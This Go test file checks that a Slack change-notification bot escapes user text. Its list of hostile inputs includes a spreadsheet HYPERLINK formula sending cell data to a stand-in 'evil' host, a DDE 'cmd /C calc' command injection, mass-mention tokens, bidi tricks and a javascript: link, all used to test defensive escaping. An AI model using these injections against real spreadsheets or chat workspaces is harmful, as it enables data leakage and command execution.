package bot

import (
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/noim3/changebot/change"
)

// hostile is what people might write to break a message, or to reach others with it.
var hostile = map[string]string{
	"calls everybody":     "<!channel> <!here> <!everyone> @here @channel <!subteam^S0PLATFORM>",
	"calls somebody":      "<@U0HELEN01> <#C0CHANGES|changes>",
	"looks like a link":   "<https://evil.example.test|the policy> https://evil.example.test",
	"looks escaped":       "&lt;!channel&gt; &amp;lt; &",
	"ends a date":         "|fallback> ^{date} <!date^1^{time}|now>",
	"only ampersands":     strings.Repeat("&", 3000),
	"only angles":         strings.Repeat("<>", 1500),
	"only emoji":          strings.Repeat("😀", 3000),
	"only letters":        strings.Repeat("x", 3000),
	"only lines":          "a" + strings.Repeat("\n", 2998) + "b",
	"controls":            "a\x00b\x07c\x1bd\x7fe\u0085f",
	"turned round":        "\u202Etxet siht\u202C \u2066isolated\u2069",
	"right to left":       "مرحبا بالعالم שלום עולם",
	"a formula":           "=HYPERLINK(\"https://evil.example.test?\"&A1,\"open\")\n+1\n-1+cmd|' /C calc'!A0\n@SUM(A1)\n\t=1",
	"joined by nothing":   "ap\u200dprove\u200c \u200e\u200fCHG-1\u200b",
	"no UTF-8":            "a\xffb\xc3",
	"half an emoji":       "👩\u200d👩\u200d👧\u200d👦 \ud7ff\ufffd",
	"formatting":          "*bold* _it_ ~out~ `code` ```\nblock\n> quote\n>>> more",
	"a whole code fence":  "```" + strings.Repeat("y", 2990),
	"placeholders":        "%s %d %!v(MISSING) {date} ${HOME} {{.}}",
	"spaces that show no": "\u00a0 \u2003 \u200b \ufeff x",
}

// live is what changebot itself puts between angle brackets.
var live = regexp.MustCompile(`^<(@[UW][A-Z0-9]{6,}|#C0CHANGES|#C0EMERGENCIES|!date\^\d+\^[^<>|]*\|[^<>|]*|https?://[^<>|\s]+)>`)

// checkInert fails the test when text holds a token that people may have made, or a cut one.
func checkInert(t *testing.T, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("no UTF-8: %q", text)
	}
	for i := range len(text) {
		rest := text[i:]
		switch text[i] {
		case '<':
			if !live.MatchString(rest) {
				t.Errorf("a live token: %.60q", rest)
			}
		case '&':
			if !strings.HasPrefix(rest, "&amp;") && !strings.HasPrefix(rest, "&lt;") && !strings.HasPrefix(rest, "&gt;") {
				t.Errorf("no entity: %.20q", rest)
			}
		case 0:
			t.Errorf("a NUL at %d", i)
		}
	}
}

func TestWhatPeopleWriteIsInert(t *testing.T) {
	t.Parallel()
	for name, text := range hostile {
		for _, most := range []int{1, 2, 7, 100, 3000} {
			m := clip(say("%s wrote %s: %s", mention("U0HELEN01"), when(time.Unix(1, 0), time.UTC), text), most)
			checkInert(t, string(m))
			if n := utf8.RuneCountInString(string(m)); n > most {
				t.Errorf("%s: %d characters are more than %d", name, n, most)
			}
			checkInert(t, string(quote(text, most)))
			if n := utf8.RuneCountInString(clipPlain(text, most)); n > most {
				t.Errorf("%s: %d plain characters are more than %d", name, n, most)
			}
		}
	}
}

func TestMarkupIsEscapedOnce(t *testing.T) {
	t.Parallel()
	once := say("%s", "a & b < c")
	if twice := say("%s", once); twice != once || once != "a &amp; b &lt; c" {
		t.Errorf("%q became %q", once, twice)
	}
}

func TestNothingIsCutInTheMiddle(t *testing.T) {
	t.Parallel()
	for most, want := range map[int]markup{
		2: "a…", 3: "a…", 6: "a…", 7: "a&amp;…", 8: "a&amp;…", 19: "a&amp;<@U0HELEN01>…", 20: "a&amp;<@U0HELEN01>bc",
	} {
		if got := clip(say("a%s%sbc", "&", mention("U0HELEN01")), most); got != want {
			t.Errorf("cut to %d it is %q, not %q", most, got, want)
		}
	}
}

func TestOnlyPeopleAreMentioned(t *testing.T) {
	t.Parallel()
	for id, want := range map[change.UserID]markup{
		"U0HELEN01": "<@U0HELEN01>", "W0HELEN01": "<@W0HELEN01>", change.Bot: "changebot",
		"!channel": "!channel", "U0> <!here": "U0&gt; &lt;!here", "S0PLATFORM": "S0PLATFORM", "": "",
	} {
		if got := mention(id); got != want {
			t.Errorf("%q is mentioned as %q, not %q", id, got, want)
		}
	}
}

func TestTextFromSlackIsReadAsPeopleSeeIt(t *testing.T) {
	t.Parallel()
	for given, want := range map[string]string{
		"hello":                              "hello",
		"<!here> <!channel>":                 "@here @channel",
		"<@U0HELEN01> and <@U0MARA001|mara>": "@U0HELEN01 and @mara",
		"<#C0CHANGES|changes> <#C0PRIVATE|>": "#changes #C0PRIVATE",
		"<!subteam^S0PLATFORM|@platform>":    "@platform",
		"<!date^1^{time}|at nine>":           "at nine",
		"<https://x.test/?a=1&amp;b=2>":      "https://x.test/?a=1&b=2",
		"<https://x.test|the page>":          "the page (https://x.test)",
		"<mailto:a@x.test|a@x.test>":         "a@x.test",
		"a &lt; b &amp;&amp; b &gt; c":       "a < b && b > c",
		"&lt;!here&gt; typed":                "<!here> typed",
		"&amp;lt;":                           "&lt;",
		"<> <|x> unfinished <@U0HELEN01":     " x unfinished <@U0HELEN01",
	} {
		got := inert(given)
		if got != want {
			t.Errorf("%q is read as %q, not %q", given, got, want)
		}
		checkInert(t, string(say("%s", got)))
	}
}

func TestOnlyAddressesOfTheWebAreLinks(t *testing.T) {
	t.Parallel()
	for given, want := range map[string]markup{
		"https://x.test/a?b=1&c=2": "<https://x.test/a?b=1&amp;c=2>",
		"javascript:alert(1)":      "javascript:alert(1)",
		"https://x.test/<!here>":   "<https://x.test/%3C%21here%3E>",
		"https://x.test/a|b":       "<https://x.test/a%7Cb>",
		"<!here>":                  "&lt;!here&gt;",
	} {
		got := link(given)
		if got != want {
			t.Errorf("%q is drawn as %q, not %q", given, got, want)
		}
		checkInert(t, string(got))
	}
}

func FuzzText(f *testing.F) {
	for _, text := range hostile {
		f.Add(text, 50)
	}
	f.Fuzz(func(t *testing.T, text string, most int) {
		most = max(1, min(most, 4000))
		for _, m := range []markup{
			clip(say("%s: %s and %s", mention("U0HELEN01"), text, when(time.Unix(1, 0), time.UTC)), most),
			quote(text, most), mention(change.UserID(text)), link(text), say("%s", inert(text)), say("%s", oneLine(text)),
		} {
			checkInert(t, string(m))
		}
		if n := utf8.RuneCountInString(clipPlain(text, most)); n > most {
			t.Errorf("%d plain characters are more than %d", n, most)
		}
	})
}
